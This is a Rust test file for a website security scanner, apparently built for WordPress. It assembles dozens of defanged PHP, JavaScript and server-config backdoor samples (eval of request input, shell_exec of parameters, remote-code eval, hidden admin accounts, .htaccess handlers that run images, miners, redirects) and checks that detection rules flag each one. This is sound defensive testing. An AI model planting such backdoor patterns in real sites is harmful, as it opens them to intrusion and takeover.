//! Harmless backdoors of every kind, honest files, added rules, and verdicts.

use super::*;
use crate::playbook::{Files, Library};
use crate::snapshot::{Content, Entry, Facts, ItemPath};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

fn playbooks() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("playbooks")
}

fn entry(size: usize, mode: u32) -> Entry {
    let facts = Facts { mode, uid: 1, gid: 1, mtime: 0, ctime: 0, inode: 1, nlink: 1, attributes: Default::default() };
    Entry::File {
        facts,
        content: Content { digest: crate::model::Digest::of(b""), size: size as u64, chunks: Vec::new() },
    }
}

/// All that is found in a file.
fn looked(scanner: &mut Scanner, files: &Files, path: &str, bytes: &[u8], mode: u32) -> Vec<Finding> {
    let content = files.is_among_content(path);
    let (mut found, why) = scanner.scan(Place { name: path, content, database: false }, bytes);
    assert_eq!(why, None, "{path}");
    found.extend(structure(files, &ItemPath::new(path).unwrap(), &entry(bytes.len(), mode), Some(bytes)));
    found
}

/// Backdoors, put together from parts so that this file is none: what they are called, where they lie, what they hold, and the
/// rule that has to find them. None of them would do harm: they lack what they would need.
fn backdoors() -> Vec<(&'static str, &'static str, String, &'static str)> {
    let php = |body: &str| format!("<?{}\n/* a helper */\n{body}\n", "php");
    let of = |sort: &str| format!("${}{}", '_', sort);
    let (post, get, request, cookie) = (of("POST"), of("GET"), of("REQUEST"), of("COOKIE"));
    let run = ["ev", "al"].concat();
    let b64 = ["base64", "_decode"].concat();
    let inflate = ["gz", "inflate"].concat();
    let letters = |word: &str| word.bytes().map(|byte| format!("chr({byte})")).collect::<Vec<_>>().join(".");
    let hex = |word: &str| word.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>();
    let long = "QUJD".repeat(400);
    let jumps: String = (0..20).map(|n| format!("goto Ab{n:02}x; Ab{n:02}x: $a = \"\\x41\";\n")).collect();
    vec![
        ("request", "wp-content/plugins/a/a.php", php(&format!("@{run}({post}['x']);")), "eval_of_request"),
        ("decoded request", "a.php", php(&format!("{run}({b64}({cookie}['k']));")), "eval_of_request"),
        ("body", "wp-includes/b.php", php(&format!("{run}(file_get_contents('php://input'));")), "eval_of_input"),
        ("packed", "wp-content/themes/t/f.php", php(&format!("{run}({inflate}({b64}('aGk=')));")), "eval_of_hidden"),
        ("remote", "c.php", php(&format!("{run}('?>' . file_get_contents('https://x.invalid/'));")), "eval_of_remote"),
        ("named call", "d.php", php(&format!("{get}['f']({get}['a']);")), "call_of_request"),
        ("callback", "e.php", php(&format!("array_map({request}['f'], array(1));")), "callback_of_request"),
        ("command", "f.php", php(&format!("echo shell_exec({get}['c']);")), "command_of_request"),
        ("backticks", "g.php", php(&format!("echo `{get}[c]`;")), "command_of_request"),
        ("pattern", "h.php", php(&format!("preg_{}('/.*/e', $x, '');", "replace")), "pattern_runs_code"),
        ("made function", "i.php", php(&format!("$f = create_{}('', {b64}('aGk='));", "function")), "made_function"),
        ("include", "j.php", php(&format!("include({get}['p']);")), "include_of_request"),
        (
            "picture include",
            "wp-config.php",
            php("@include 'wp-content/uploads/favicon_1.ico';"),
            "include_in_disguise",
        ),
        ("hidden include", "index.php", php(&format!("@include \"{}\";", hex("/tmp/x"))), "include_in_disguise"),
        ("escaped", "k.php", php(&format!("${{\"{}\"}}['a'] = 1;", hex("GLOBALS"))), "escaped_names"),
        ("jumps", "l.php", php(&jumps), "jumping_program"),
        ("zeros", "m.php", php(&"$O00OO0 = $OO0O00 . $O0O0O0;\n".repeat(4)), "names_of_zeros"),
        ("long text", "n.php", php(&format!("$t = '{long}';\n{run}($x({b64}($t)));")), "long_hidden_text"),
        ("letters", "o.php", php(&format!("$f = {};\n{run}($f);", letters("system"))), "letters_one_by_one"),
        ("reversed", "p.php", php(&format!("$f = strrev('{}');", ["edoced", "_46esab"].concat())), "split_names"),
        ("shell", "q.php", php(&format!("$title = '{}';", ["Files", "Man"].concat())), "web_shell"),
        (
            "uploader",
            "r.php",
            php("if ($_FILES) { move_uploaded_file($_FILES['f']['tmp_name'], 'x'); }"),
            "bare_uploader",
        ),
        ("writer", "s.php", php(&format!("file_put_contents('x.php', {post}['t']);")), "write_of_request"),
        (
            "dropper",
            "t.php",
            php(&format!("file_put_contents('x', {b64}('{}'));", ["PD9w", "aHAg"].concat())),
            "dropper",
        ),
        ("mailer", "u.php", php(&format!("mail({post}['to'], 'a', 'b');")), "mailer"),
        (
            "login",
            "v.php",
            php(&format!("if (isset({get}['in'])) {{ wp_set_auth_{}(1); }}", "cookie")),
            "login_without_password",
        ),
        (
            "administrator",
            "w.php",
            php("wp_insert_user(array('user_login' => 'x', 'user_pass' => 'secret1', 'role' => 'administrator'));"),
            "administrator_from_nowhere",
        ),
        (
            "hidden account",
            "x.php",
            php("add_action('pre_user_query', function ($q) { $q->query_where .= \" AND user_login != 'x'\"; });"),
            "hidden_administrator",
        ),
        ("timed", "y.php", php(&format!("wp_schedule_event(1, 'hourly', 'h'); {run}($a);")), "timed_program"),
        ("theme", "wp-includes/z.php", php(&format!("$k = '{}';", ["WP_CD", "_CODE"].concat())), "marked_theme"),
        ("polyglot", "wp-content/uploads/a.jpg", format!("\u{1}JFIF {}", php("echo 1;")), "picture_with_program"),
        (
            "handler",
            "wp-content/uploads/.htaccess",
            "AddType application/x-httpd-php .jpg\n".into(),
            "server_runs_pictures",
        ),
        ("prepended", ".user.ini", "auto_prepend_file = /tmp/.x\n".into(), "program_before_all"),
        (
            "search engines",
            "wp-admin/.htaccess",
            "RewriteCond %{HTTP_REFERER} google [NC]\nRewriteRule ^(.*)$ http://x.invalid/ [R=302,L]\n".into(),
            "visitors_sent_elsewhere",
        ),
        ("miner", "wp-includes/js/a.js", ["new Coin", "Hive.Anonymous('k')"].concat(), "coin_miner"),
        ("script", "b.js", format!("{run}(String.fromCharCode({}));", vec!["97"; 20].join(",")), "injected_script"),
        ("perl", "c.pl", "print `$ENV{QUERY_STRING}`; system($q);".into(), "script_of_server"),
        ("native", "wp-content/uploads/d", "\u{7f}ELF....".into(), "native_program"),
        ("taken over", "index.html", format!("<title>{} by x</title>", ["Hack", "ed"].concat()), "page_of_intruders"),
        ("among content", "wp-content/uploads/2026/e.php", php("echo 1;"), "program-among-content"),
        ("hidden", "wp-content/plugins/a/.f.php", php("echo 1;"), "hidden-program"),
        ("hidden deeper", "wp-includes/.a/.ht.router.php", php("echo 1;"), "hidden-program"),
        ("hidden among content", "wp-content/uploads/.ht.router.php", php("echo 1;"), "hidden-program"),
        ("a script by another", "d.sh", "#!/bin/sh\n# php\neval \"$QUERY_STRING\"".into(), "script_of_server"),
        ("two ends", "wp-content/themes/t/g.php.jpg", "x".into(), "two-ends"),
        ("root", "wp-confiq.php", php("echo 1;"), "unknown-program"),
        ("backup", "wp-config.php.bak", "x".into(), "backup-for-all"),
    ]
}

#[test]
fn backdoors_of_every_kind_are_found() {
    let mut scanner = Scanner::new(&[]).unwrap();
    let files = Library::open(&playbooks()).unwrap().load("wordpress").unwrap().0.files;
    let (mut missed, mut rules) = (Vec::new(), BTreeSet::new());
    for (what, path, text, rule) in backdoors() {
        let found = looked(&mut scanner, &files, path, text.as_bytes(), 0o644);
        match found.iter().find(|finding| finding.rule == rule) {
            Some(finding) => {
                rules.insert(rule);
                assert_eq!(finding.place, path);
                assert!(
                    !finding.why.en.is_empty() && !finding.why.fr.is_empty() && finding.why.en != finding.why.fr,
                    "{rule}"
                );
                let excerpt = finding.excerpt.clone().unwrap_or_default();
                assert!(excerpt.chars().count() <= 121 && !excerpt.contains('\n'), "{excerpt}");
            }
            None => {
                missed.push(format!("{what}: {rule} found {:?}", found.iter().map(|one| &one.rule).collect::<Vec<_>>()))
            }
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
    println!(
        "{} kinds of backdoors planted, all found, by {} rules of {}",
        backdoors().len(),
        rules.len(),
        scanner.rules
    );
    assert!(rules.len() >= 20);
    let writable = looked(&mut scanner, &files, "wp-login.php", b"<?php echo 1;", 0o666);
    assert_eq!(writable[0].rule, "writable-by-all");
    // What every honest site has.
    for (path, text) in [
        ("wp-content/uploads/index.php", "<?php\n// Silence is golden.\n"),
        ("wp-content/uploads/.htaccess", "Deny from all\n"),
        (".htaccess", "RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\n"),
        ("wp-config.php", "<?php\ndefine('DB_NAME', 'x');\nrequire_once ABSPATH . 'wp-settings.php';\n"),
        ("wp-content/uploads/a.jpg", "\u{1}JFIF picture"),
        (".ht.router.php", "<?php\nrequire 'index.php';\n"),
        ("vendor/a/b/.phpstorm.meta.php", "<?php\nnamespace PHPSTORM_META {}\n"),
        ("core/scripts/drupal.sh", "#!/usr/bin/env php\n<?php\n$_SERVER['QUERY_STRING'] = ''; // eval\n"),
    ] {
        assert_eq!(looked(&mut scanner, &files, path, text.as_bytes(), 0o644), [], "{path}");
    }
}

#[test]
fn tables_are_looked_at_by_rules_of_their_own() {
    let mut scanner = Scanner::new(&[]).unwrap();
    let mut rules = |sql: &str| {
        let place = Place { name: "table:wp_options", content: false, database: true };
        let (found, _) = scanner.scan(place, sql.as_bytes());
        found.into_iter().map(|finding| finding.rule).collect::<Vec<_>>()
    };
    let hidden = format!(
        "INSERT INTO `o` VALUES (1,'{}({}(\\'aGk=\\'))');",
        ["ev", "al"].concat(),
        ["base64", "_decode"].concat()
    );
    assert_eq!(rules(&hidden), ["table_with_hidden_program"]);
    assert_eq!(
        rules("(1,'<iframe src=\\\"http://x.invalid/\\\" width=\\\"1\\\" height=\\\"1\\\"></iframe>')"),
        ["table_with_hidden_frame"]
    );
    assert_eq!(rules("(1,'<script src=\\\"https://a.b.top/x.js\\\"></script>')"), ["table_with_script_from_nowhere"]);
    let manager = "(1,'<iframe src=\\\"https://www.googletagmanager.com/ns.html?id=1\\\" height=\\\"0\\\" width=\\\"0\\\"></iframe>')";
    assert_eq!(rules(manager), Vec::<String>::new());
    assert_eq!(rules("(1,'We explain <?php echo 1; ?> here')"), Vec::<String>::new());
}

#[test]
fn rules_that_are_added_count_and_bad_ones_are_named() {
    let own =
        "rule mine { meta: description = \"ours\" strings: $a = \"a mark of ours\" condition: $a and ext == \"txt\" }";
    let mut scanner = Scanner::new(&[("own.yar".into(), own.into())]).unwrap();
    let place = Place { name: "a.txt", content: false, database: false };
    let (found, _) = scanner.scan(place, b"one\ntwo\nhere is a mark of ours\n");
    assert_eq!((found[0].rule.as_str(), found[0].line, found[0].severity), ("mine", Some(3), Severity::High));
    assert_eq!(found[0].why.fr, "ours");
    let error = Scanner::new(&[("bad.yar".into(), "rule x { condition: nothing }".into())]).unwrap_err();
    assert!(error.to_string().contains("bad.yar"), "{error}");
}

/// The files of a tree, below it.
fn tree(root: &Path) -> Vec<PathBuf> {
    let (mut files, mut folders) = (Vec::new(), vec![root.to_owned()]);
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => folders.push(entry.path()),
                Ok(kind) if kind.is_file() => files.push(entry.path()),
                _ => {}
            }
        }
    }
    files
}

/// Says nothing of what publishers publish. `INTENDANT_CLEAN_TREES`: such trees, with `:` between them, each of a site or a part of one.
#[test]
#[ignore = "needs trees of clean sites; by hand: INTENDANT_CLEAN_TREES=… cargo nextest run --lib --run-ignored only -E 'test(clean_trees)'"]
fn nothing_is_said_of_clean_trees() {
    let mut scanner = Scanner::new(&[]).unwrap();
    let wordpress = Library::open(&playbooks()).unwrap().load("wordpress").unwrap().0.files;
    let trees = std::env::var("INTENDANT_CLEAN_TREES").unwrap_or_default();
    let mut wrong = Vec::new();
    for root in trees.split(':').filter(|root| !root.is_empty()).map(Path::new) {
        let files = if root.join("wp-load.php").exists() { wordpress.clone() } else { Files::default() };
        let (mut count, mut bytes) = (0_u64, 0_u64);
        for file in tree(root) {
            let Ok(read) = std::fs::read(&file) else { continue };
            let cut = &read[..read.len().min(MAX_SCANNED_BYTES as usize)];
            let path = file.strip_prefix(root).unwrap().display().to_string();
            (count, bytes) = (count + 1, bytes + cut.len() as u64);
            wrong.extend(looked(&mut scanner, &files, &path, cut, 0o644).into_iter().map(|one| (root.to_owned(), one)));
        }
        println!("{}: {count} files, {bytes} bytes, {} false alarms so far", root.display(), wrong.len());
        assert!(count > 0, "{} has no files", root.display());
    }
    assert!(!trees.is_empty(), "no trees are named");
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn the_verdict_follows_from_the_worst() {
    let document = serde_json::json!({
        "core": {"version": "6.1.9", "offers": [{"version": "6.1.10", "package": true}, {"version": "7.1.1", "package": true}]},
        "extensions": [
            {"kind": "plugin", "slug": "a", "version": "1.0", "offer": {"version": "2.0", "package": true}},
            {"kind": "plugin", "slug": "b", "version": "1.0", "offer": {"version": "1.1", "package": false}},
        ],
        "checksums": [{"component": "core:core", "state": "verified"}],
        "sources": [{"name": "core", "reachable": true}],
        "administrators": [{"name": "lucie"}],
        "address": "https://shop.example/",
    });
    let site = SiteName::new("shop").unwrap();
    let plan = |more: &str| {
        let text = format!(
            "plan: 1\nsite: shop\nclient: {{ name: Shop, language: en }}\ntier: custom\ncms: wordpress\n\
             url: https://shop.example/\nhost: {{ local: /srv/shop }}\n{more}"
        );
        crate::plan::parse(Path::new("shop.yaml"), &text, &["wordpress"]).unwrap()
    };
    let versions = Library::open(&playbooks()).unwrap().load("wordpress").unwrap().0.versions;
    let judged =
        |document: &serde_json::Value, plan: &crate::plan::Plan, failing: Option<String>, found: Vec<Finding>| {
            let inventory = Inventory::from_document(&site, document.clone()).unwrap();
            judge(Seen { plan, versions: &versions, inventory: &inventory, failing, found })
        };
    let rules = |judged: &Judged| -> BTreeMap<String, Severity> {
        judged.findings.iter().map(|finding| (finding.rule.clone(), finding.severity)).collect()
    };
    let behind = judged(&document, &plan(""), None, Vec::new());
    assert_eq!(behind.verdict, Verdict::AcceptWithConditions);
    assert_eq!(behind.behind.iter().filter(|one| one.major).count(), 2);
    // The core with two extensions to look at again, and one extension.
    assert_eq!(behind.estimate_min, 120 + 2 * 10 + 30);
    let names: Vec<String> = rules(&behind).into_keys().collect();
    assert_eq!(names, ["administrators", "licence-missing", "major-versions-behind", "updates-pending"]);

    let mut good = document.clone();
    good["core"]["offers"] = serde_json::json!([]);
    good["extensions"] = serde_json::json!([]);
    assert_eq!(judged(&good, &plan(""), None, Vec::new()).verdict, Verdict::Accept);
    let failing = judged(&good, &plan(""), Some("http /: status 500".into()), Vec::new());
    assert_eq!((failing.verdict, rules(&failing)["checks-fail"]), (Verdict::Refuse, Severity::Critical));

    let mut bad = document.clone();
    bad["address"] = "https://evil.example/".into();
    bad["checksums"] = serde_json::json!([{"component": "plugin:a", "state": "modified", "files": ["a.php"]}]);
    bad["sources"] = serde_json::json!([{"name": "core", "reachable": false}]);
    let bad = rules(&judged(&bad, &plan("cap: 1\n"), None, Vec::new()));
    for rule in ["another-address", "modified-files", "core-unproven", "source-down", "over-cap"] {
        assert!(bad.contains_key(rule), "{rule}: {bad:?}");
    }
    let mut scanner = Scanner::new(&[]).unwrap();
    let (_, _, text, _) = &backdoors()[0];
    let (found, _) = scanner.scan(Place { name: "a.php", content: false, database: false }, text.as_bytes());
    assert_eq!(judged(&good, &plan(""), None, found).verdict, Verdict::Refuse);
}
